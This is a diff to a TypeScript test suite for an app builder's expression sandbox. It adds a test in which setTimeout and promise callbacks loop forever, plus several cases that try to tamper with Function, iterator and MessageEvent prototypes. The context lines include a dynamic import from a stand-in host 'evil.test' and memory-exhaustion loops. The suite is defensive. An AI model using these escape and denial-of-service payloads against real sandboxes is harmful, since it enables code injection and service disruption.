@@ -509,6 +509,38 @@ export function appPageTests(stage: () => Stage): void {
       .filter((fault) => !/policy|sandbox|refused|blocked|Failed to (?:construct|load|execute)|-src/i.test(fault));
     expect(others).toEqual([]);
   });
+
+  test('code that leaves work behind it holds neither other code nor the next', async () => {
+    const { page, go, path } = stage();
+    const { id, keys } = await aPage('Work left behind', {
+      rows: [
+        [
+          ['timer', 'stat', { label: 'Timer', value: '{{(setTimeout(() => { for (;;); }), variables.n + 10)}}' }],
+          [
+            'promise',
+            'stat',
+            { label: 'Promise', value: '{{(Promise.resolve().then(() => { for (;;); }), variables.n + 20)}}' },
+          ],
+          ['good', 'stat', { label: 'Good', value: '{{variables.n + 30}}' }],
+        ],
+        [['more', 'button', { label: 'More' }, { onClick: [{ type: 'SET_VARIABLE', key: 'n', value: 2 }] }]],
+      ],
+      more: { variables: [{ key: 'n', type: 'number', defaultValue: 1 }] },
+    });
+    await go(path(`/pages/${id}`));
+    const shown = (name: string, value: string) =>
+      page
+        .locator('section.page-widget')
+        .nth(keys.findIndex((key) => key.endsWith(`_${name}`)))
+        .getByText(value, { exact: true })
+        .waitFor();
+    for (const n of [1, 2]) {
+      await shown('timer', `1${n}`);
+      await shown('promise', `2${n}`);
+      await shown('good', `3${n}`);
+      await page.getByRole('button', { name: 'More' }).click();
+    }
+  });
 }
 
 /** Elements that load something without a script. */
@@ -589,6 +621,16 @@ const inCode: readonly (readonly [code: string, shown: string | RegExp])[] = [
   ['(() => { Array.prototype.map = () => "leak"; return 1; })()', /Cannot assign to read only/],
   ['(() => { Object.prototype.leak = 1; return 1; })()', /not extensible/],
   ['(() => { const a = {}; a.__proto__.leak = 1; return 1; })()', /not extensible/],
+  ['(() => { globalThis.Function = () => () => "leak"; return 1; })()', /Cannot assign to read only/],
+  [
+    '(() => { Object.getPrototypeOf([].values()).next = () => ({ done: true }); return 1; })()',
+    /read only|not extensible/,
+  ],
+  [
+    '(() => { Object.defineProperty(MessageEvent.prototype, "data", { get: () => [] }); return 1; })()',
+    /Cannot redefine/,
+  ],
+  ['(() => { globalThis.leak = 1; return 1; })()', /not extensible/],
   ['String(import("https://evil.test/code.js").catch(() => 0))', '[object Promise]'],
   ['(() => { for (;;) {} })()', 'took longer than 100 ms'],
   ['(() => { const all = []; for (;;) all.push(new Array(1000).fill(0)); })()', /took longer than 100 ms|memory/],
